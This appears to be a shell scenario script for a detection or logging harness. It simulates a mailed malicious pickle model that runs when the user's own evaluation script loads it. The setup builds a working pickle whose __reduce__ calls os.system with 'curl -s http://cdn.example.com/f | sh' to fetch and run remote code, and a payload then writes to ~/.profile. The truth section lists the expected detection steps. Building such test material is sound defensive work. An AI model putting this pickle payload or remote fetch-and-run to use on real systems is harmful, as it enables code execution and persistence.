title="A mailed model is loaded by dev's own evaluation script and runs a shell"
what="A 'partner' mails results.pkl, a pickled Python model. dev saves it with mutt into ~/eval/models, and an hour later runs the own, old script ~/eval/evaluate.py over all models in the folder: unpickling calls os.system, which lets curl fetch a script from cdn.example.com and sh run it. The script leaves a line in ~/.profile."
host=ws3.example.org user=dev daemons="cron sshd" syslog_format=iso shift_plan="mail:1h run:20m"
setup() {
  mkdir -p /home/dev/eval/models
  python3 -c 'import pickle; pickle.dump({"w": [0.1] * 40}, open("/home/dev/eval/models/base.pkl", "wb"))'
  printf 'import glob, pickle, sys\nfor name in sorted(glob.glob("models/*.pkl")):\n    model = pickle.load(open(name, "rb"))\n    print(name, sum(model["w"]) if isinstance(model, dict) else model)\n' > /home/dev/eval/evaluate.py
  printf 'set folder=~ record=~/sent move=no confirmcreate=no spoolfile=~/Maildir mbox_type=Maildir\n' > /home/dev/.muttrc
  chown -R dev: /home/dev/eval /home/dev/.muttrc
  printf '#!/bin/sh\necho "# fonts" >> $HOME/.profile\n' > "$base/out/www/f"
  python3 - "$base/out/results.pkl" <<'P'
import os, pickle, sys
class M:
    def __reduce__(self): return (os.system, ('curl -s http://cdn.example.com/f | sh',))
pickle.dump(M(), open(sys.argv[1], 'wb'))
P
}
act() {
  phase mail; small_talk 3
  mail_in --from lab@example.net --to dev@example.org --subject 'our weights, as promised' --attach "$base/out/results.pkl:application/octet-stream:results.pkl" --source 203.0.113.19 --helo host19.example.net
  wait_mail dev 1
  ssh_as dev <<'L'
cd eval
python3 evaluate.py
cd models
%line mutt
%sleep 2
%keys *\n
%sleep 1
%keys v
%sleep 1
%keys j
%keys s
%sleep 1
%keys \n
%sleep 1
%keys q
%keys q
%keys q
%sleep 1
%keys \n
ls -l
L
  phase run; small_talk 1
  [ -s /home/dev/eval/models/results.pkl ] || { note "not saved: $(find /home/dev -name '*pkl*')"; ls -l /home/dev/eval; }
  ssh_as dev <<'L'
cd eval
python3 evaluate.py
%sleep 1
L
  small_talk 1
}
truth() {
  file_step saved 'mutt openat:write .*results.pkl' 'the attachment is saved'
  file_step loaded 'python3[.0-9]* openat:read .*results.pkl' 'loaded by the own script'
  exec_step fetch 'curl -s http://cdn.example.com/f' 'code comes from outside'
  file_step persist 'openat:write .*/.profile' 'and a shell writes the profile'
}
